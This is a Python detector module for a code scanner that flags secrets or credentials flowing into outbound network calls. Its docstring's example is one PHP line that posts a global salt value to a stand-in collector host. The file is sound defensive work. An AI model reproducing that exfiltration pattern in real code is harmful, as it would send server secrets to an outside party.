"""# secret-to-network.

## What it does
Reports a secret or a database credential that reaches a call that leaves the server, with the way it takes. A secret
that goes where the product's own features send it (the Twilio token to api.twilio.com) is reported as expected, with
severity info; the expectation is on the pair of secret and destination, never on a file or line.

## Why is this bad
It is the leak itself.

## Example
```php
http_post("https://collector.example.net/", array("k" => $GLOBALS['salt']));
```

## References
- CWE-200, CWE-201, CWE-359
"""

from __future__ import annotations

from collections.abc import Iterable

from scanner.analysis.summary import Hit
from scanner.detectors.base import Detector, Scene, rule
from scanner.detectors.leaks import leak_findings
from scanner.model.finding import Category, Finding

RULE = rule("secret-to-network", Category.EXFILTRATION, "Secret reaches a call that leaves the server", __doc__)


def _wanted(hit: Hit) -> bool:
    return hit.signature.kind != "redirect"


def _find(scene: Scene) -> Iterable[Finding]:
    return leak_findings(scene, RULE, _wanted)


DETECTOR = Detector(RULE, _find)
